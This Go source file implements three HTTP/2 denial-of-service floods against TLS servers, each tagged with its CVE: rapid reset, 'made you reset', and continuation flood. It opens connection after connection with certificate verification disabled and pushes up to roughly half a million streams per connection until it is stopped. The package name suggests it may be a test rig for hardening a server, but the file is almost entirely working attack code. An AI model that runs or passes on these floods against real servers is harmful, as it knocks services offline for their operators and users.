package rig

import (
	"bytes"
	"context"
	"crypto/tls"
	"io"
	"net"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// StreamAttack abuses the streams of HTTP/2. It is tried on a connection until
// the server gives up on that, and returns how many streams were opened.
type StreamAttack struct {
	Name   string
	stream func(f *http2.Framer, id uint32, head []byte) error
}

// StreamAttacks are requests that are taken back at once (CVE-2023-44487); such
// that make the server take them back (CVE-2025-8671); and heads without an end
// (CVE-2023-45288).
var StreamAttacks = []StreamAttack{
	{"rapid reset", func(f *http2.Framer, id uint32, head []byte) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true, EndStream: true}); err != nil {
			return err
		}
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	}},
	{"made you reset", func(f *http2.Framer, id uint32, head []byte) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true}); err != nil {
			return err
		}
		return f.WriteRawFrame(http2.FrameWindowUpdate, 0, id, []byte{0, 0, 0, 0})
	}},
	{"continuation flood", func(f *http2.Framer, id uint32, head []byte) error {
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head}); err != nil {
			return err
		}
		var more bytes.Buffer
		_ = hpack.NewEncoder(&more).WriteField(hpack.HeaderField{Name: "x-more", Value: string(bytes.Repeat([]byte("a"), 8<<10)), Sensitive: true})
		for range 200 {
			if err := f.WriteContinuation(id, false, more.Bytes()); err != nil {
				return err
			}
		}
		return nil
	}},
}

// Run attacks a listener with TLS over one connection after the other until the
// context ends. Protocols are what is offered in the handshake: a server without
// HTTP/2 is spoken to in it all the same.
func (a StreamAttack) Run(ctx context.Context, address string, protocols ...string) (connections, streams int) {
	for ctx.Err() == nil {
		n, err := a.once(ctx, address, protocols)
		streams += n
		if err == nil {
			connections++
		}
	}
	return connections, streams
}

func (a StreamAttack) once(ctx context.Context, address string, protocols []string) (streams int, err error) {
	dialer := tls.Dialer{Config: &tls.Config{InsecureSkipVerify: true, NextProtos: protocols}}
	raw, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil {
		return 0, err
	}
	defer raw.Close()
	defer context.AfterFunc(ctx, func() { _ = raw.Close() })()
	go func() { _, _ = io.Copy(io.Discard, raw) }()
	_ = raw.SetWriteDeadline(time.Now().Add(5 * time.Second))
	return a.flood(raw, address)
}

func (a StreamAttack) flood(to net.Conn, host string) (streams int, err error) {
	if _, err := io.WriteString(to, http2.ClientPreface); err != nil {
		return 0, err
	}
	framer := http2.NewFramer(to, nil)
	framer.AllowIllegalWrites = true
	if err := framer.WriteSettings(); err != nil {
		return 0, err
	}
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for _, field := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", host}, {":path", "/webhook/main"}, {"content-type", "application/json"}} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
	}
	for id := uint32(1); id < 1<<20; id += 2 {
		if err := a.stream(framer, id, head.Bytes()); err != nil {
			return streams, nil // the server has given up: on to the next connection
		}
		streams++
	}
	return streams, nil
}
